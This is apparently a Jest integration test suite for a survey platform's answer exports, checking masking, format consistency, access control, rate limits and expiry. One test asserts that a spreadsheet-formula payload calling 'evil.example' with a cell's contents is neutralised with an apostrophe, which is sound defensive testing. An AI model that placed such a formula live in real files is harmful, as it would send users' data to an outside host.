import { createHash, randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import pg from 'pg';
import { Keyring } from '#platform';
import { surveyToken } from '../libs/distribution/link/survey-link.js';
import { fixtureDefinition } from './support/bad-input-corpus.js';
import { eventually } from './support/eventually.js';
import { hostileAnswers, ordinaryAnswers } from './support/hostile-answers.js';
import { inviteEverybody } from './support/invite.js';
import { type ExportedRow, readCsv, readParquet, readSpss, readXlsx } from './support/read-export.js';
import { logInAs, type StaffSession } from './support/routes.js';
import { aStudy, contactsCsv, openStage, somePeople, type Stage, type StagedStudy } from './support/stage.js';

const PEOPLE = 1_000;
const CLIENTS = 12;
const TELLING = '找王工，电话13812345678';

interface Ordered {
  readonly id: string;
  readonly state: string;
  readonly total: number;
  readonly written: number;
  readonly bytes: number;
  readonly digest: string;
}

type Answers = Readonly<Record<string, unknown>>;

/** A thousand people have answered, among them everybody of the corpus. */
describe('an export of answers', () => {
  let stage: Stage;
  let study: StagedStudy;
  let admin: StaffSession;
  const given = new Map<string, Answers>();

  const hand = async (invitationId: string, answers: Answers) => {
    const keyring = new Keyring(stage.env['FAIRMARK_SECRET'] ?? '');
    const authorization = `Survey ${surveyToken(keyring, 'invitation', invitationId, 0)}`;
    const key = { authorization, 'idempotency-key': randomUUID() };
    const handed = await stage.http.post('/v1/respond/submit').set(key).send({ answers });
    expect([handed.status, handed.text]).toEqual([201, expect.anything()]);
    given.set(invitationId, answers);
  };

  beforeAll(async () => {
    stage = await openStage();
    study = await aStudy(stage, { definition: fixtureDefinition });
    const ids = await inviteEverybody(stage, study, contactsCsv(somePeople(PEOPLE)));
    const hostile = hostileAnswers().map(({ answers }) => answers);
    const telling = { ...ordinaryAnswers(1), q_comment: TELLING };
    const all = ids.map((id, n) => ({ id, answers: n === 0 ? telling : (hostile[n - 1] ?? ordinaryAnswers(n)) }));
    const one = async () => {
      for (let next = all.pop(); next; next = all.pop()) await hand(next.id, next.answers);
    };
    await Promise.all(Array.from({ length: CLIENTS }, one));
    admin = await logInAs(stage);
  }, 120_000);

  afterAll(() => stage.close());

  const order = (request: object) => stage.staff.post(`/v1/admin/waves/${study.waveId}/exports`, request);
  const fetchFile = (id: string, { cookie } = admin) =>
    fetch(`http://127.0.0.1:${stage.api.port}/v1/admin/exports/${id}/file`, { headers: { cookie } });
  /** Nobody here waits for an hour. */
  const anHourPasses = () =>
    stage.database.query(`update answer_export set ordered_at = ordered_at - interval '1 hour'`);
  const taken = async (request: object): Promise<Buffer> => {
    await anHourPasses();
    const { id } = await stage.staff.make<Ordered>(`/v1/admin/waves/${study.waveId}/exports`, request);
    const file = await fetchFile(id);
    expect(file.status).toBe(200);
    return Buffer.from(await file.arrayBuffer());
  };
  const byId = (rows: readonly ExportedRow[]) => new Map(rows.map((row) => [row['id'] ?? '', row]));

  it('holds no text as long as nobody has looked for names in it', async () => {
    const rows = readCsv(await taken({ format: 'csv' }));
    expect(rows).toHaveLength(PEOPLE);
    expect([...new Set(rows.map((row) => row['q_comment']))].toSorted()).toEqual(['', '[pending]']);
    expect(rows.map((row) => row['q_rating'])).not.toContain('');
  });

  describe('of answers that have been looked at', () => {
    beforeAll(async () => {
      await stage.startWorker();
      const pending = 'select count(*)::int as left from response where not is_masked';
      await eventually(async () => (await stage.database.query<{ left: number }>(pending))[0]?.left === 0, 60_000);
    }, 90_000);

    it('gives back what everybody said, whatever they said', async () => {
      const rows = byId(readCsv(await taken({ format: 'csv', originals: true, withExcluded: true })));
      expect(rows.size).toBe(PEOPLE);
      const astray = [...given].filter(([id, answers]) => !holds(rows.get(id), cellsOf(answers)));
      expect(astray).toEqual([]);
    });

    it('is masked unless originals are ordered', async () => {
      const masked = await taken({ format: 'csv', withExcluded: true });
      expect(masked.toString()).not.toContain('13812345678');
      expect(readCsv(masked).map((row) => row['q_comment'])).toContain('找[person]，电话[phone]');
      expect((await taken({ format: 'csv', originals: true })).toString()).toContain('13812345678');
    });

    it('says the same in every format', async () => {
      const [csv, xlsx, parquet, spss] = [
        readCsv(await taken({ format: 'csv' })),
        await readXlsx(await taken({ format: 'xlsx' })),
        await readParquet(await taken({ format: 'parquet' })),
        await readSpss(await taken({ format: 'spss' })),
      ];
      expect(differing(xlsx, csv.map(cutForExcel))).toEqual([]);
      expect(differing(parquet, csv)).toEqual([]);
      expect(differing(spss.rows, csv.map(onOneLine))).toEqual([]);
      expect(spss.variables.map(([name]) => name)).toHaveLength(Object.keys(csv[0] ?? {}).length);
      for (const [index, name] of Object.keys(csv[0] ?? {}).entries()) {
        const [, format = ''] = spss.variables[index] ?? [];
        const longest = Math.max(1, ...spss.rows.map((row) => Buffer.byteLength(row[name] ?? '')));
        if (format.startsWith('A')) expect([name, Number(format.slice(1)) >= longest]).toEqual([name, true]);
        else expect(spss.rows.every((row) => Number.isFinite(Number(row[name])))).toBe(true);
      }
    }, 60_000);

    it('is the same file whenever nothing has changed, in an order that is that of no clock', async () => {
      const [one, other] = [await taken({ format: 'csv' }), await taken({ format: 'csv' })];
      expect(one.equals(other)).toBe(true);
      const ids = readCsv(one).map((row) => row['id'] ?? '');
      expect(ids).toEqual(ids.toSorted());
    });

    it('begins formulas with an apostrophe, and no number', async () => {
      const csv = (await taken({ format: 'csv', originals: true })).toString();
      for (const cell of [`"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`, `"'\t=1+1"`, `"'＝1+1"`])
        expect(csv).toContain(cell);
      expect(csv).not.toMatch(/,'\d/);
    });

    it('has words for codes in the language that was asked for', async () => {
      const [row] = readCsv(await taken({ format: 'csv', values: 'labels', locale: 'zh-CN' }));
      expect(row).toMatchObject({ source: '独立渠道', may_quote: '否', week: expect.stringMatching(/^\d{4}-W\d\d$/) });
    });

    it('has a row for each thing that was said in the long layout', async () => {
      const wide = readCsv(await taken({ format: 'csv' }));
      const long = readCsv(await taken({ format: 'csv', layout: 'long' }));
      const facts = 16;
      const said = wide.flatMap((row) => Object.values(row).slice(facts)).filter((cell) => cell !== '');
      expect(long.map((row) => row['value'])).toEqual(said);
    });

    it('leaves out what was left out, unless it is asked for, and never has what was withdrawn', async () => {
      const [excluded = '', withdrawn = ''] = readCsv(await taken({ format: 'csv' })).map((row) => row['id'] ?? '');
      const unseen = { 'if-match': '"0"' };
      const ruling = { ruling: 'exclude', reason: 'Wrote for a competitor.' };
      expect((await stage.staff.put(`/v1/admin/responses/${excluded}/ruling`, ruling, unseen)).status).toBe(200);
      await stage.database.query(
        `update response set ruling = 'withdraw', excluded_reason = 'WITHDRAWN' where invitation_id = $1`,
        [withdrawn],
      );
      const counted = byId(readCsv(await taken({ format: 'csv' })));
      expect([counted.has(excluded), counted.has(withdrawn)]).toEqual([false, false]);
      const all = byId(readCsv(await taken({ format: 'csv', withExcluded: true })));
      expect(all.get(excluded)).toMatchObject({ excluded: 'BY_HAND', ruling: 'exclude' });
      expect(all.has(withdrawn)).toBe(false);
    });
  });

  it('tells how far it is and what came of it, is fetched once, and only by whoever ordered it', async () => {
    const { body: ordered } = (await order({ format: 'xlsx' })) as { body: Ordered };
    expect(ordered).toMatchObject({ state: 'waiting', written: 0 });
    const file = Buffer.from(await (await fetchFile(ordered.id)).arrayBuffer());
    const { body } = (await stage.staff.get(`/v1/admin/exports/${ordered.id}`)) as { body: Ordered };
    const digest = createHash('sha256').update(file).digest('hex');
    expect(body).toMatchObject({ state: 'done', written: ordered.total, bytes: file.length, digest });
    expect((await fetchFile(ordered.id)).status).toBe(409);
    const acts = await stage.database.query<{ details: Record<string, unknown> }>(
      `select details from audit_log where action = 'answers.exported' and object = $1 order by seq`,
      [`export:${ordered.id}`],
    );
    expect(acts.map(({ details }) => details)).toEqual([
      expect.objectContaining({ state: 'ordered', wave: study.waveId, format: 'xlsx', answers: ordered.total }),
      { state: 'done', wave: study.waveId, bytes: file.length, sha256: digest },
    ]);
  });

  it('is not there any more after a day', async () => {
    const { body } = await order({ format: 'csv' });
    await stage.database.query(`update answer_export set expires_at = now() - interval '1 second' where id = $1`, [
      body.id,
    ]);
    const gone = await fetchFile(body.id);
    expect([gone.status, await gone.json()]).toEqual([
      410,
      expect.objectContaining({ type: '/problems/export-expired' }),
    ]);
  });

  it('of originals is for those who may read them, and nobody fetches what another has ordered', async () => {
    const auditor = { email: 'auditor@example.com', password: 'a long enough password' };
    const invited = { email: auditor.email, name: 'Auditor', role: 'auditor' };
    const { link } = await stage.staff.make<{ link: string }>('/v1/admin/users', invited);
    await stage.http.post('/v1/auth/accept').send({ token: link.split('#')[1], password: auditor.password });
    const session = await logInAs(stage, auditor);
    const ask = (body: object) =>
      stage.http
        .post(`/v1/admin/waves/${study.waveId}/exports`)
        .set({ cookie: session.cookie, 'x-csrf-token': session.csrf })
        .send(body);
    expect((await ask({ format: 'csv', originals: true })).status).toBe(403);
    const { status, body } = await ask({ format: 'csv' });
    expect(status).toBe(201);
    expect((await fetchFile(body.id)).status).toBe(404);
    expect((await fetchFile(body.id, session)).status).toBe(200);
  });

  it('is on record with who ordered it, newest first', async () => {
    const path = `/v1/admin/waves/${study.waveId}/exports`;
    const { body: first } = await stage.staff.get(`${path}?limit=2`);
    expect(first.data.map(({ orderedBy }: { orderedBy: string }) => orderedBy)).toEqual([
      'auditor@example.com',
      'admin@example.com',
    ]);
    const { body: second } = await stage.staff.get(`${path}?limit=2&cursor=${first.next}`);
    expect(second.data).toHaveLength(2);
    expect(new Set([...first.data, ...second.data].map(({ id }: { id: string }) => id)).size).toBe(4);
  });

  it.each([
    ['another format', { format: 'sav' }, 400],
    ['no format', {}, 400],
    ['another field', { format: 'csv', waveId: 'x' }, 400],
    ['a version that nobody answered', { format: 'csv', versionIds: [randomUUID()] }, 422],
    ['words where SPSS needs codes', { format: 'spss', values: 'labels' }, 422],
  ])('is refused with %s', async (_, request, status) => {
    const refused = await order(request);
    expect(refused.status).toBe(status);
    expect(refused.body.errors).toEqual([expect.objectContaining({ pointer: expect.any(String) })]);
  });

  it('is refused of a wave that is not there', async () => {
    expect((await stage.staff.post(`/v1/admin/waves/${randomUUID()}/exports`, { format: 'csv' })).status).toBe(404);
    expect((await stage.staff.get(`/v1/admin/exports/${randomUUID()}`)).status).toBe(404);
  });

  describe('ordered too often', () => {
    const stateOf = async (id: string) => (await stage.staff.get(`/v1/admin/exports/${id}`)).body.state as string;

    it('is refused after ten in an hour, however many come at once, and says when the next may come', async () => {
      await anHourPasses();
      const all = await Promise.all(Array.from({ length: 15 }, () => order({ format: 'csv' })));
      const refused = all.filter(({ status }) => status !== 201);
      expect([all.length - refused.length, refused.map(({ status }) => status)]).toEqual([
        10,
        [429, 429, 429, 429, 429],
      ]);
      expect(refused[0]?.body).toMatchObject({ type: '/problems/rate-limited', status: 429 });
      const wait = Number(refused[0]?.headers['retry-after']);
      expect(wait).toBeGreaterThan(3_000);
      expect(wait).toBeLessThanOrEqual(3_600);
      await anHourPasses();
      expect((await order({ format: 'csv' })).status).toBe(201);
    });

    it.each([
      ['two of one person are', 'admin@example.com', 2],
      ['four in all are', 'somebody@example.com', 4],
    ])('waits while %s written, and then can be fetched', async (_, orderedBy, count) => {
      await anHourPasses();
      const { body: waiting } = await order({ format: 'csv' });
      const others = `select id from answer_export where state = 'waiting' and id <> $1 limit ${count}`;
      await stage.database.query(
        `update answer_export set state = 'running', beat_at = now(), ordered_by = $2 where id in (${others})`,
        [waiting.id, orderedBy],
      );
      const busy = await fetchFile(waiting.id);
      expect([busy.status, busy.headers.get('retry-after'), await busy.json()]).toEqual([
        429,
        '30',
        expect.objectContaining({ type: '/problems/exports-busy' }),
      ]);
      await stage.database.query(`update answer_export set state = 'done' where state = 'running'`);
      expect((await fetchFile(waiting.id)).status).toBe(200);
    });

    it('can be fetched again when the api was killed while it was written', async () => {
      await anHourPasses();
      const { body: killed } = await order({ format: 'csv', originals: true });
      const { body: left } = await order({ format: 'csv', originals: true });
      // Texts that nobody may read hold the files up.
      const holder = new pg.Client({ connectionString: stage.database.url });
      await holder.connect();
      await holder.query('begin');
      await holder.query('lock table answer_text in access exclusive mode');
      const cut = [killed, left].map(({ id }) => fetchFile(id).then((file) => file.arrayBuffer()));
      const settled = Promise.allSettled(cut);
      await eventually(async () => (await stateOf(killed.id)) === 'running' && (await stateOf(left.id)) === 'running');
      await stage.restartApi();
      await holder.end();
      expect((await settled).map(({ status }) => status)).toEqual(['rejected', 'rejected']);
      expect([await stateOf(killed.id), (await fetchFile(killed.id)).status]).toEqual(['running', 409]);
      const silence = `update answer_export set beat_at = now() - interval '61 seconds' where id = $1`;
      await stage.database.query(silence, [killed.id]);
      const again = await fetchFile(killed.id);
      expect([again.status, readCsv(Buffer.from(await again.arrayBuffer())).length > 0]).toEqual([200, true]);
      expect(await stateOf(killed.id)).toBe('done');
      await stage.database.query(silence, [left.id]);
      await eventually(async () => (await stateOf(left.id)) === 'failed', 30_000);
    }, 60_000);
  });

  it('has a codebook for programs, for spreadsheets and for people', async () => {
    const path = `/v1/admin/waves/${study.waveId}/codebook`;
    const { body } = await stage.staff.get(path);
    const { columns } = { columns: (body as { variables: { name: string }[] }).variables.map(({ name }) => name) };
    expect(columns).toEqual(Object.keys(readCsv(await taken({ format: 'csv' }))[0] ?? {}));
    const csv = readCsv(Buffer.from((await stage.staff.get(`${path}?format=csv`)).text));
    expect(csv.filter((row) => row['name'] === 'q_radio').map((row) => row['code'])).toEqual(['yes', 'no', 'other']);
    const page = await stage.staff.get(`${path}?format=html&locale=zh-CN`);
    expect(page.headers['content-disposition']).toMatch(/^attachment; filename="study-.*-codebook\.html"$/);
    expect(page.text).toContain('编码手册');
  });

  it('knows which versions were answered', async () => {
    const { body } = await stage.staff.get(`/v1/admin/waves/${study.waveId}/answered-versions`);
    expect(body.data).toEqual([
      {
        id: study.versionId,
        questionnaire: 'main',
        number: 1,
        counted: expect.any(Number),
        excluded: expect.any(Number),
      },
    ]);
  });
});

/** Rows that are not the same, to be looked at; comparing a thousand at once takes the matcher seconds. */
function differing(ours: readonly ExportedRow[], theirs: readonly ExportedRow[]): unknown[] {
  const pairs = Array.from({ length: Math.max(ours.length, theirs.length) }, (_, n) => [ours[n], theirs[n]] as const);
  return pairs.filter(([one, other]) => JSON.stringify(one) !== JSON.stringify(other));
}

const holds = (row: ExportedRow | undefined, cells: ExportedRow): boolean =>
  Object.entries(cells).every(([name, cell]) => row?.[name] === cell);

const CHOICES = ['a', 'b', 'c', 'd'];

/** What the columns of the corpus' questionnaire must hold for answers, written down apart from the code that fills them. */
function cellsOf(answers: Answers): ExportedRow {
  const of = (name: string) => String((answers[name] as string | number | undefined) ?? '');
  const list = (name: string) => answers[name] as readonly string[] | undefined;
  const rows = answers['q_matrix'] as Readonly<Record<string, number>> | undefined;
  const table = answers['q_md'] as readonly { readonly c?: string }[] | undefined;
  const flag = answers['q_bool'];
  const chosen = list('q_check')?.length ? list('q_check') : undefined;
  return {
    ...Object.fromEntries(['q_rating', 'q_nps', 'q_num', 'q_date', 'q_radio'].map((name) => [name, of(name)])),
    q_text: stored(of('q_text')),
    q_comment: stored(of('q_comment')),
    q_bool: flag === undefined ? '' : flag === true ? '1' : '0',
    ...Object.fromEntries(CHOICES.map((one) => [`q_check.${one}`, chosen ? (chosen.includes(one) ? '1' : '0') : ''])),
    ...Object.fromEntries(
      ['r1', 'r2'].map((row) => [`q_matrix.${row}`, rows?.[row] === undefined ? '' : String(rows[row])]),
    ),
    ...Object.fromEntries(
      ['x', 'y', 'z'].map((one) => [
        `q_rank.${one}`,
        list('q_rank') ? String(1 + (list('q_rank')?.indexOf(one) ?? 0)) : '',
      ]),
    ),
    'q_md.1.c': table?.[0]?.c ?? '',
  };
}

/** Control characters are taken out when an answer is taken in; a text of spaces is none. */
function stored(text: string): string {
  // oxlint-disable-next-line no-control-regex
  const kept = text.replaceAll(/[\0-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]/g, '');
  return kept.trim() === '' ? '' : kept;
}

const LONGEST_CELL = 32_767;
const cutForExcel = (row: ExportedRow): ExportedRow =>
  Object.fromEntries(
    Object.entries(row).map(([name, text]) => [
      name,
      text.length > LONGEST_CELL ? `${text.slice(0, LONGEST_CELL - 4)} […]` : text,
    ]),
  );

const onOneLine = (row: ExportedRow): ExportedRow =>
  Object.fromEntries(
    Object.entries(row).map(([name, text]) => [name, text.replaceAll(/[\r\n\u2028\u2029\u0085\v\f]+/g, ' ')]),
  );
